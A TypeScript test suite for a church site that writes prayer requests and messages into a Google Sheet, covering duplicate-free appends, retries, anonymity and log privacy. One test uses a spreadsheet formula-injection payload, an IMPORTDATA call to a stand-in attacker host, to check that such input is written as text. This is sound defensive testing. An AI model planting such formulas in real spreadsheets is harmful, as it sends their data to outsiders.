import { describe, expect, it } from 'vitest';
import { NOW } from '#tests/app.ts';
import { asAdministrator } from '#tests/factories/admin.ts';
import { openSheetSite } from '#tests/factories/google-sheet.ts';
import { forEachTest } from '#tests/for-each-test.ts';
import { startGoogleServer } from '#tests/google-server.ts';

const site = forEachTest(openSheetSite);

const pray = (request = 'Please pray for my mother.', over: object = {}) =>
  site.app.post('/api/googleSheets/submit-prayer', {
    name: 'Ana María',
    email: 'ana@example.org',
    phone: '+1 555 0100',
    request,
    ...over,
  });
const run = () => site.app.services.jobs.runDue();
const later = (seconds: number) =>
  site.app.clock.set(Temporal.Instant.from(NOW).add({ seconds }).toString());
/** A prayer whose first try failed; the next one is due. */
async function prayWhileAway(): Promise<void> {
  site.google.fail({ how: 'answer', status: 500, path: '/values/', times: 1 });
  await pray();
  await run();
  later(31);
}
const headings = [
  'Date',
  'Kind',
  'Name',
  'E-mail',
  'Phone',
  'Request',
  'For the prayer team',
  'Id',
];
const job = async () =>
  site.app.services.db
    .selectFrom('jobs')
    .selectAll()
    .where('kind', '=', 'google-row')
    .executeTakeFirstOrThrow();
const appends = () => site.google.calls.filter((call) => call.endsWith(':append')).length;

it.each([
  ['left of everything', 0],
  ['left of the id', 7],
])('appends once where somebody inserted a column %s', async (_, at) => {
  await pray('First.');
  await run();
  for (const [index, row] of site.google.sheet.rows.entries())
    row.splice(at, 0, index === 0 ? 'Who calls' : 'Ruth');
  site.google.fail({ how: 'cut-after', path: ':append', times: 1 });
  await pray('Second.');
  await run();
  later(31);
  await run();
  const [first = [], , second = [], ...more] = site.google.sheet.rows;
  expect(more).toEqual([]);
  expect(second[first.indexOf('Request')]).toBe('Second.');
  expect(second[first.indexOf('Who calls')]).toBe('');
  expect(second[first.indexOf('Id')]).toMatch(/^[0-9a-f-]{36}$/);
});

it('finds the id where the headings are gone and a column was inserted', async () => {
  site.google.fail({ how: 'cut-after', path: ':append', times: 1 });
  await pray();
  await run();
  site.google.sheet.rows.shift();
  for (const row of site.google.sheet.rows) row.unshift('Ruth');
  later(31);
  await run();
  expect(site.google.sheet.rows).toHaveLength(1);
});

it('appends each prayer and message once, below headings', async () => {
  await pray();
  await site.app.post('/api/googleSheets/contact-us', {
    name: 'Ben',
    email: 'ben@example.org',
    request: 'When does the choir sing?',
  });
  await run();
  const [first, ...rows] = site.google.sheet.rows;
  expect(first).toEqual(headings);
  const id = expect.stringMatching(/^[0-9a-f-]{36}$/);
  expect(rows.sort()).toEqual([
    [
      '2026-11-21 19:00',
      'Message',
      'Ben',
      'ben@example.org',
      '',
      'When does the choir sing?',
      '',
      id,
    ],
    [
      '2026-11-21 19:00',
      'Prayer request',
      'Ana María',
      'ana@example.org',
      '+1 555 0100',
      'Please pray for my mother.',
      'no',
      id,
    ],
  ]);
  await run();
  expect(site.google.sheet.rows).toHaveLength(3);
});

it('writes into the sheet that is named, and leaves headings of the church’s own', async () => {
  site.google.sheet.tabs.set("Mary's list", [['When', 'What']]);
  await site.app.close();
  site.app = await site.open(
    `https://docs.google.com/spreadsheets/d/${site.google.sheet.id}/edit#gid=0!Mary's list`,
  );
  await pray();
  await run();
  expect(site.google.sheet.tabs.get("Mary's list")?.[0]).toEqual(['When', 'What']);
  expect(site.google.sheet.tabs.get("Mary's list")).toHaveLength(2);
  expect(site.google.sheet.rows).toEqual([]);
});

it('sends formulas as text, in every field', async () => {
  const formula = '=IMPORTDATA("https://evil.example/?"&A1)';
  await pray(formula, { name: '@SUM(A:A)', phone: '=1+1' });
  await run();
  const written = ['@SUM(A:A)', 'ana@example.org', '=1+1', formula];
  expect(site.google.sheet.rows[1]?.slice(2, 6)).toEqual(written);
});

it('leaves out who sent an anonymous prayer, and says what the team may read', async () => {
  await pray('For my son.', { isAnonymous: true, mayShare: true });
  await run();
  expect(site.google.sheet.rows[1]?.slice(1, 7)).toEqual([
    'Prayer request',
    '',
    '',
    '',
    'For my son.',
    'yes',
  ]);
});

it('tells administrators that a message has a row, which stays when it is deleted here', async () => {
  await pray();
  const admin = await asAdministrator(site.app);
  const { messages } = await admin.ask('GET', '/api/messages');
  const path = `/api/messages/${messages[0]._id}`;
  await run();
  expect((await admin.ask('GET', path)).isInSheet).toBe(true);
  await admin.ask('DELETE', path, undefined, 204);
  expect(site.google.sheet.rows).toHaveLength(2);
});

it('writes nothing for a message that was deleted meanwhile', async () => {
  await prayWhileAway();
  await site.app.services.db.deleteFrom('messages').execute();
  await run();
  expect(site.google.sheet.rows).toEqual([]);
  expect((await job()).state).toBe('done');
});

describe('exactly once', () => {
  it('when the line is cut after Google wrote the row', async () => {
    site.google.fail({ how: 'cut-after', path: ':append', times: 1 });
    await pray();
    await run();
    expect(await job()).toMatchObject({ state: 'waiting', attempts: 1 });
    later(31);
    await run();
    expect((await job()).state).toBe('done');
    expect(site.google.sheet.rows).toHaveLength(2);
    expect(appends()).toBe(1);
  });

  it('when the process ends between the row and noting it', async () => {
    await pray();
    await run();
    await site.app.services.db
      .updateTable('jobs')
      .set({ state: 'waiting', locked_until: null, payload: (await lost()) ?? '' })
      .where('kind', '=', 'google-row')
      .execute();
    await run();
    expect(site.google.sheet.rows).toHaveLength(2);
    expect(appends()).toBe(1);
  });

  it('in a sheet of 100,000 rows', async () => {
    const row = (number: number) => ['', '', '', '', '', '', '', `row-${number}`];
    site.google.sheet.rows.push(
      headings,
      ...Array.from({ length: 100_000 }, (_, number) => row(number)),
    );
    site.google.fail({ how: 'cut-after', path: ':append', times: 1 });
    await pray();
    await run();
    later(31);
    await run();
    expect((await job()).state).toBe('done');
    expect(appends()).toBe(1);
  });

  it('when somebody deleted the headings, and other rows are above', async () => {
    site.google.fail({ how: 'cut-after', path: ':append', times: 1 });
    await pray();
    await run();
    site.google.sheet.rows.unshift(['a', 'b'], []);
    later(31);
    await run();
    expect(appends()).toBe(1);
  });
});

/** The payload that a done job no longer has. */
async function lost(): Promise<string | undefined> {
  const row = await site.app.services.db.selectFrom('messages').select('id').executeTakeFirst();
  return row && JSON.stringify({ messageId: row.id });
}

describe('a failure', () => {
  const failed = async (seconds = 31) => {
    await pray('My knee is like a sparrow.');
    await run();
    const { last_error } = await job();
    later(seconds);
    return last_error;
  };

  it.each([
    ['500', { how: 'answer', status: 500 }, 'Google answered with an error (500).'],
    ['503 with words', { how: 'garbage', status: 503 }, 'Google answered with an error (503).'],
    ['200 with garbage', { how: 'garbage' }, 'Google’s answer could not be read.'],
    ['200 with another body', { how: 'answer', body: [] }, 'Google’s answer could not be read.'],
  ] as const)('of Google’s (%s) is tried again', async (_, fault, words) => {
    site.google.fail({ ...fault, path: '/values/' });
    expect(await failed()).toBe(words);
    site.google.recover();
    await run();
    expect(site.google.sheet.rows).toHaveLength(2);
  });

  it('of too many calls waits as long as Google asks', async () => {
    site.google.fail({
      how: 'answer',
      status: 429,
      headers: { 'retry-after': '600' },
      path: '/values/',
    });
    expect(await failed(599)).toBe('Google asks to come back later (429).');
    site.google.recover();
    await run();
    expect(site.google.sheet.rows).toEqual([]);
    later(601);
    await run();
    expect(site.google.sheet.rows).toHaveLength(2);
  });

  it('says with whom to share the sheet, and is not final', async () => {
    site.google.sheet.isShared = false;
    expect(await failed()).toContain(`Share it with ${site.google.email} as an editor`);
    site.google.sheet.isShared = true;
    await run();
    expect(site.google.sheet.rows).toHaveLength(2);
  });

  it('says that there is no such sheet', async () => {
    site.google.sheet.id = '9zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz';
    expect(await failed()).toContain('Google knows no such sheet (404)');
  });

  it('of the key is named', async () => {
    const refusal = { error: 'invalid_grant', error_description: 'Invalid JWT Signature.' };
    site.google.fail({ how: 'answer', status: 400, body: refusal, path: '/token' });
    expect(await failed()).toContain('does not accept the key');
  });

  it('to reach it is named, and nothing of the prayer is logged', async () => {
    await site.google.close();
    expect(await failed()).toMatch(/^Google could not be reached/);
    expect(site.heard.lines.join('')).not.toMatch(/sparrow|ana@|PRIVATE KEY|Ana/);
    site.google = await startGoogleServer();
  });

  it('is shown under Mail without the text', async () => {
    site.google.fail({ how: 'answer', status: 500 });
    await failed();
    const admin = await asAdministrator(site.app);
    const mails = await admin.ask('GET', '/api/mails?state=waiting');
    const shown = { to: 'Google Sheets', subject: 'A row for a prayer request' };
    expect(mails).toContainEqual(expect.objectContaining(shown));
    expect(JSON.stringify(mails)).not.toContain('sparrow');
  });
});
